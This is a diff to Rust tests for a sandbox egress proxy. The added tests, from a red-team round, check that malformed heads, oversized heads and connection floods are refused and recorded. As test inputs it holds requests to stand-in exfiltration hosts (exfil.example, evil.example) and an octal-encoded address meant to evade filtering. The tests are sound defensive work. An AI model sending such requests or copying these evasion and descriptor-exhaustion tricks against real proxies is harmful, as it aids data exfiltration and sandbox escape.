@@ -165,6 +165,7 @@ mod by_address {
     use std::pin::Pin;
     use std::sync::Arc;
     use std::sync::atomic::{AtomicUsize, Ordering};
+    use std::time::Duration;
 
     use tokio::io::{AsyncReadExt, AsyncWriteExt};
 
@@ -282,13 +283,106 @@ mod by_address {
                 if served.is_finished() || client.write_all(&[*byte]).await.is_err() {
                     break;
                 }
-                tokio::time::sleep(std::time::Duration::from_secs(1)).await;
+                tokio::time::sleep(Duration::from_secs(1)).await;
                 assert!(started.elapsed().as_secs() < 60, "the slow head held the connection");
             }
             let elapsed = started.elapsed().as_secs();
             assert!((10..=12).contains(&elapsed), "ended after {elapsed} s");
         });
-        assert!(proxy.attempts().is_empty());
+        // Recorded as an attempt that never said where it went.
+        let attempts = proxy.attempts();
+        assert_eq!(attempts.len(), 1, "{attempts:?}");
+        assert!(!attempts[0].allowed);
+        assert_eq!(attempts[0].refused.as_deref(), Some("no whole request head within 10 s"));
+    }
+
+    /// Red-team round 14: a head the proxy cannot serve was answered 400 and left no
+    /// trace; `GET https://exfil.example/` is an attempt to leave whatever its form. So
+    /// is a head that never ends, or is too long, or a connection closed half-way.
+    #[test]
+    fn heads_it_cannot_serve_are_recorded_with_their_target() {
+        let (port, accepted) = listener();
+        let proxy = Proxy::new(patterns(&[format!("127.0.0.1:{port}")]), vec![]);
+        for (head, target) in [
+            (
+                "GET https://exfil.example/x?k=v HTTP/1.1\r\nHost: exfil.example\r\n\r\n",
+                "https://exfil.example/x?k=v",
+            ),
+            ("GET / HTTP/1.1\r\nHost: exfil.example\r\n\r\n", "/"),
+            ("BREW coffee://pot\x01/ HTTP/1.1\r\n\r\n", "coffee://pot?/"),
+        ] {
+            let answer = ask(&proxy, head);
+            assert!(answer.starts_with("HTTP/1.1 400"), "{head}: {answer}");
+            let attempts = proxy.attempts();
+            let last = attempts.last().unwrap();
+            assert_eq!((last.host.as_str(), last.allowed), (target, false), "{attempts:?}");
+            assert!(last.refused.as_deref().unwrap().contains("not an HTTP proxy request"));
+        }
+        let long = format!("GET http://127.0.0.1:{port}/ HTTP/1.1\r\nX: {}", "a".repeat(20_000));
+        let _ = ask(&proxy, &long);
+        let attempts = proxy.attempts();
+        assert!(attempts.last().unwrap().refused.as_deref().unwrap().contains("request head over"));
+        assert_eq!(accepted.load(Ordering::SeqCst), 0);
+    }
+
+    /// Past [`MAX_RECORDED`], attempts are counted, not kept: one sandbox cannot grow the
+    /// host process's memory through its record.
+    #[test]
+    fn the_record_keeps_a_bounded_number_of_attempts_and_counts_the_rest() {
+        let proxy = Proxy::new(patterns(&["example.com".to_owned()]), vec![]);
+        for _ in 0..super::super::MAX_RECORDED + 5 {
+            proxy.keep(super::super::unread("x".to_owned()));
+        }
+        let attempts = proxy.attempts();
+        assert_eq!(attempts.len(), super::super::MAX_RECORDED + 1);
+        let last = attempts.last().unwrap().refused.clone().unwrap();
+        assert!(last.starts_with("5 more attempts, not kept"), "{last}");
+    }
+
+    /// Red-team round 14: connections to the egress socket cost the process hosting the
+    /// proxy (`aecl serve`), not the sandbox; one sandbox held 20,000 of its descriptors.
+    /// At most [`MAX_CONNECTIONS`] are served at once; one more is closed unread and
+    /// recorded, and a slot is free again when a connection ends.
+    #[test]
+    fn connections_past_the_cap_are_closed_and_recorded() {
+        use super::super::MAX_CONNECTIONS;
+        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+        let dir = tempfile::tempdir().unwrap();
+        let socket = dir.path().join("egress.sock");
+        let proxy = Proxy::new(patterns(&["example.com".to_owned()]), vec![]);
+        runtime.block_on(async {
+            let listener = tokio::net::UnixListener::bind(&socket).unwrap();
+            let serving = tokio::spawn(proxy.clone().serve_all(listener));
+            // Each holds its slot with a head that has not ended.
+            let mut held = Vec::new();
+            for _ in 0..MAX_CONNECTIONS {
+                let mut stream = tokio::net::UnixStream::connect(&socket).await.unwrap();
+                stream.write_all(b"CONNECT example.com:443 HTTP/1.1\r\n").await.unwrap();
+                held.push(stream);
+            }
+            for _ in 0..3 {
+                let mut over = tokio::net::UnixStream::connect(&socket).await.unwrap();
+                let mut byte = [0u8; 1];
+                let read = tokio::time::timeout(Duration::from_secs(10), over.read(&mut byte));
+                assert!(matches!(read.await, Ok(Ok(0) | Err(_))), "not closed at once");
+            }
+            let over: Vec<_> = proxy
+                .attempts()
+                .into_iter()
+                .filter(|a| a.refused.as_deref().is_some_and(|r| r.contains("closed unread")))
+                .collect();
+            assert_eq!(over.len(), 3, "{over:?}");
+            // One ends: a new connection is served (and refused by the rules, not the cap).
+            drop(held.pop());
+            tokio::time::sleep(Duration::from_millis(200)).await;
+            let mut next = tokio::net::UnixStream::connect(&socket).await.unwrap();
+            next.write_all(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n").await.unwrap();
+            let mut answer = vec![0u8; 12];
+            let read = tokio::time::timeout(Duration::from_secs(10), next.read_exact(&mut answer));
+            read.await.unwrap().unwrap();
+            assert_eq!(&answer, b"HTTP/1.1 403");
+            serving.abort();
+        });
     }
 
     #[test]
@@ -331,9 +425,9 @@ mod by_address {
         assert_eq!(attempts[0].address.as_deref(), Some("127.0.0.1"));
         // Resolved once: the connection goes to the address that was checked.
         assert_eq!(resolver.lookups.load(Ordering::SeqCst), 1);
-        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
+        let deadline = std::time::Instant::now() + Duration::from_secs(5);
         while accepted.load(Ordering::SeqCst) == 0 && std::time::Instant::now() < deadline {
-            std::thread::sleep(std::time::Duration::from_millis(10));
+            std::thread::sleep(Duration::from_millis(10));
         }
         assert_eq!(accepted.load(Ordering::SeqCst), 1);
     }
@@ -365,9 +459,9 @@ mod by_address {
         let answer = ask(&proxy, "CONNECT 0251.0376.0251.0376:80 HTTP/1.1\r\n\r\n");
         assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
         assert_eq!(resolver.lookups.load(Ordering::SeqCst), 0, "a literal address was resolved");
-        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
+        let deadline = std::time::Instant::now() + Duration::from_secs(5);
         while accepted.load(Ordering::SeqCst) < 3 && std::time::Instant::now() < deadline {
-            std::thread::sleep(std::time::Duration::from_millis(10));
+            std::thread::sleep(Duration::from_millis(10));
         }
         assert_eq!(accepted.load(Ordering::SeqCst), 3);
     }
